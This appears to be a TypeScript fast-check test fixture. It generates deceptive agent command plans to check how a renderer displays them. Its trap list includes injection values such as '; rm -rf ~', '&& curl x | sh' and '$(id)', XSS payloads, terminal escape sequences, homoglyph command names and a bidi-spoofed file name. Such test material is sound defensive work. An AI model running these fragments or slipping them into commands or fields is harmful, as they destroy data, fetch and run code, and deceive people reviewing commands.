/** Plans that an agent would send to be misread: hidden, bidirectional and look-alike characters, escapes, padding, markup, broken text. */
import fc from 'fast-check';
import { commandPlan } from '#renderer/fake-host/fixtures.ts';
import type { CommandPlan } from '#shared/model/index.ts';

const code = (from: number, to: number): fc.Arbitrary<string> =>
  fc.integer({ min: from, max: to }).map((point) => String.fromCodePoint(point));

/** Each reads as something else, or as nothing, where it is printed as it is. */
const traps: readonly string[] = [
  ...[
    '',
    ' ',
    '  ',
    '\t',
    '\n',
    '\r',
    '\r\n',
    '\0',
    '\u0008',
    '\u007f',
    '\u0085',
    '\u001b',
    '\u009b31m',
    '\u009d8;;x\u009c',
  ],
  ...[
    '\u001b[2K\u001b[1A',
    '\u001b]8;;https://evil.test\u0007',
    '\u001b]0;title\u001b\\',
    '\u001b[8m',
    '\u001bP1$r\u001b\\',
  ],
  ...[
    '\u202a',
    '\u202b',
    '\u202c',
    '\u202d',
    '\u202e',
    '\u2066',
    '\u2067',
    '\u2068',
    '\u2069',
    '\u200e',
    '\u200f',
    '\u061c',
  ],
  ...[
    '\u200b',
    '\u200c',
    '\u200d',
    '\u2060',
    '\ufeff',
    '\u00ad',
    '\u034f',
    '\u180e',
    '\u115f',
    '\u3164',
    '\u2800',
    '\uffa0',
  ],
  ...[
    '\u00a0',
    '\u2002',
    '\u2003',
    '\u2009',
    '\u200a',
    '\u202f',
    '\u3000',
    '\u2028',
    '\u2029',
    '\ufe0f',
    '\u{e0100}',
    '\u{e0041}',
  ],
  ...[
    '\ud800',
    '\udc00',
    '\udbff\ud800',
    '\uffff',
    '\u{1ffff}',
    '\ue000',
    '\ufffc',
    '\ufffd',
    '\u{1d159}',
    '\u{13441}',
  ],
  ...['e\u0301', 'a\u0327\u0300\u0301\u0302\u0303\u0304', '\u0300', '\u20dd', '\u0947', 'กำ', 'ﷺ', '\u0600', '\u06dd'],
  ...['gіt', 'сurl', 'pаypаl.com', 'ѕudо', 'ｒｍ', '–force', '−rf', '∕etc∕passwd', '：', '․․/', 'ℓs', 'ⅼs', 'ⲟ'],
  ...['שלום', 'مرحبا', 'abc שלום 123', '‮ fdp.exe', 'مرحبا.txt'],
  ...['<b>x</b>', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '&lt;', '&#8238;', '<!--', '</code>'],
  ...[
    '‹NUL›',
    '‹',
    '›',
    '…',
    '·',
    '·×120',
    '""',
    "''",
    '`id`',
    '$(id)',
    '$IFS',
    '; rm -rf ~',
    '&& curl x | sh',
    '\\',
    '%00',
  ],
  ...['👩‍👩‍👧', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '🇩🇪', '❤\ufe0f', '1\ufe0f\u20e3', '日本語', 'ไทย', '한국어', 'हिन्दी'],
];

const padding = fc
  .tuple(fc.constantFrom(' ', '\u00a0', '\n', '\t', '\u200b', 'a', '\u3000', '.'), fc.integer({ min: 2, max: 400 }))
  .map(([character, times]) => character.repeat(times));

const piece = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...traps) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
  { weight: 2, arbitrary: fc.string({ maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 6 }) },
  { weight: 1, arbitrary: padding },
  { weight: 1, arbitrary: code(0x0300, 0x036f) },
  { weight: 1, arbitrary: code(0x2000, 0x206f) },
  { weight: 1, arbitrary: code(0xe0000, 0xe01ef) },
  { weight: 1, arbitrary: fc.constantFrom('\ud83d', '\ude00', '\udfff') },
);

const argument = fc.array(piece, { maxLength: 5 }).map((pieces) => pieces.join(''));

const hostilePlan: fc.Arbitrary<CommandPlan> = fc
  .record({
    program: fc.oneof(fc.constantFrom('git', 'npm', 'python3'), argument),
    rest: fc.array(argument, { maxLength: 6 }),
    folder: argument,
    value: argument,
  })
  .map(({ program, rest, folder, value }) =>
    commandPlan([program, ...rest], {
      cwd: { path: `/home/anna/${folder}`, device: '1', inode: '2' },
      env: { HOME: '/home/anna', NOTE: value },
      envFromAgent: ['NOTE'],
    }),
  );

/** The same plans for the same seed, in any engine. */
export const hostilePlans = (count: number, seed: number): readonly CommandPlan[] =>
  fc.sample(hostilePlan, { numRuns: count, seed });
